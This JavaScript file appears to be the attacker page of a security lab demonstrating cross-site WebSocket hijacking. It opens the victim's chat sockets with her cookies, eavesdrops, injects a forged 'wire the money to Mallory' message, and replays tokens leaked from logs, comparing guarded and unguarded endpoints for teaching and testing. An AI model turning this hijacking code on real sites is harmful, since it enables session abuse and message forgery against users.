/* The attacker's page: opens the victim's sockets, and shows what a page can see of the outcome. */
(function () {
  'use strict';

  var NOBODY = 4401; // how the lab's door closes where nobody is logged in
  var WORDS = 'Please wire the money to Mallory. (not written by me)';
  var GIVEN = {
    nothing: 'The attacker is given nothing but what the browser sends by itself: the cookies.',
    waiting: 'Waiting for the chat to connect, so that a log has its handshake\u2026',
    leak: 'The attacker is given a token that leaked from a log, still fresh.',
    noLeak: 'Nothing leaked: is somebody logged in at the demo, and may this page open it?',
    ticket: 'The attacker has no browser of hers. He is given her token, and signs a ticket with a key of his own.',
    session: 'Alice logged in on another computer, which asked for a ticket, and logged out. The attacker is given ' +
      'all that it held before: token, ticket and session cookie.',
    noSession: 'Alice got no ticket: was a scope of hers removed at the demo?'
  };

  var victim = document.body.getAttribute('data-victim');
  var given = document.getElementById('given');
  var buttons = document.querySelectorAll('[data-without]'), busy, popup, i;

  function ask(method, path, done) {
    var xhr = new XMLHttpRequest();
    xhr.open(method, path, true);
    xhr.onreadystatechange = function () {
      if (xhr.readyState === 4) { done(xhr.status === 200 ? JSON.parse(xhr.responseText) : {}); }
    };
    xhr.send(null);
  }

  function add(parent, tag, text) {
    var element = document.createElement(tag);
    element.appendChild(document.createTextNode(text));
    parent.appendChild(element);
    parent.appendChild(document.createTextNode(' '));
    return element;
  }

  // One line per try: what came of it, what it was, what this page got and saw, what the server says to us alone.
  function show(list, title, result) {
    var line = document.createElement('li'), note;
    line.className = result.nobody ? 'nothing' : result.heard ? 'no stolen' : 'yes';
    add(line, 'strong', result.nobody ? 'nothing to steal' : result.heard ? 'hijacked' : 'refused');
    add(line, 'span', title);
    if (result.heard) { add(line, 'em', result.heard); }
    if (result.said) { add(line, 'em', result.said); }
    note = add(line, 'small', result.nobody ? 'Nobody is logged in at the demo. '
      : 'This page saw: ' + result.saw + '. The server: ' + (result.reason || 'never asked') + '.');
    if (result.nobody) {
      note = add(note, 'a', 'Log in there');
      note.href = 'http://' + victim + '/';
      note.target = '_blank';
      note.rel = 'noopener';
    }
    document.getElementById(list).appendChild(line);
  }

  // With no words to say it only listens.
  function knock(list, title, path, query, words, done) {
    var attempt = String(Math.random()).slice(2), result = {}, ws;
    function end(saw) {
      result.saw = saw;
      ask('GET', '/reason/' + attempt, function (answer) {
        result.reason = answer.reason;
        show(list, title, result);
        done();
      });
    }
    try {
      ws = new WebSocket('ws://' + victim + path + '?' + query + 'attempt=' + attempt);
    } catch (e) {
      return end(e.name);
    }
    ws.onmessage = function (event) {
      var message = JSON.parse(event.data);
      if (!message.line) { return; }
      result.heard = message.line;
      if (!words) { return ws.close(); }
      ws.send(words);
      result.said = message.name + ' says now: ' + words;
    };
    ws.onclose = function (event) {
      result.nobody = event.code === NOBODY;
      end(result.heard ? 'an open socket' : 'an error, then close ' + event.code);
    };
  }

  function run(tries, done) {
    var next = tries.shift();
    if (!next) { return done(); }
    knock(next[0], next[1], next[2], next[3], next[4], function () { run(tries, done); });
  }

  // A button that was really disabled would lose the focus of whoever pressed it.
  function lock(locked) {
    busy = locked;
    for (var b = 0; b < buttons.length; b++) { buttons[b].setAttribute('aria-disabled', locked ? 'true' : 'false'); }
  }

  // Any page may open the victim's, whose chat then connects; its token stands in the access log. Asked first,
  // so that the log is being read when it does.
  function overhear(path, done) {
    ask('POST', path, function (answer) {
      if (popup) { popup.close(); }
      done(answer);
    });
    popup = window.open('http://' + victim + '/', 'victim', 'width=500,height=400');
  }

  function unlock() {
    lock(false);
  }

  function attack(button, token) {
    var query = 'without=' + button.getAttribute('data-without') + '&';
    if (token) { query += 'wsguard_token=' + encodeURIComponent(token) + '&'; }
    knock('layers', button.textContent, '/lab/chat', query, WORDS, unlock);
  }

  function attackWithLeak(button) {
    given.textContent = GIVEN.waiting;
    overhear('/leak', function (answer) {
      given.textContent = answer.token ? GIVEN.leak : GIVEN.noLeak;
      attack(button, answer.token);
    });
  }

  // Without a browser: the attacker's server writes Origin and cookies itself.
  function attackRaw(button, kind) {
    var path = '/raw/' + kind + '?without=' + button.getAttribute('data-without');
    function end(answer) {
      unlock();
      given.textContent = GIVEN[answer.leaked ? kind : kind === 'ticket' ? 'noLeak' : 'noSession'];
      if (!answer.leaked) { return; }
      show('layers', button.textContent, {
        heard: answer.line, saw: 'nothing, no browser took part', reason: answer.reason
      });
    }
    if (kind === 'session') { return ask('POST', path, end); }
    given.textContent = GIVEN.waiting;
    overhear(path, end);
  }

  function leaveOut(event) {
    var button = event.currentTarget, kind = button.getAttribute('data-raw');
    if (busy) { return; }
    lock(true);
    if (kind) { return attackRaw(button, kind); }
    if (button.getAttribute('data-leak')) { return attackWithLeak(button); }
    given.textContent = GIVEN.nothing;
    attack(button, '');
  }

  for (i = 0; i < buttons.length; i++) { buttons[i].addEventListener('click', leaveOut); }
  lock(true);
  run([
    ['unguarded', 'Listening with her cookies', '/lab/chat', 'without=all&', ''],
    ['guarded', 'Listening with her cookies', '/chat', '', ''],
    ['unguarded', 'Speaking, with a guessed token', '/lab/chat', 'without=all&wsguard_token=guess&', WORDS],
    ['guarded', 'Speaking, with a guessed token', '/chat', 'wsguard_token=guess&', WORDS]
  ], function () {
    unlock();
    document.body.setAttribute('data-done', 'yes');
  });
}());
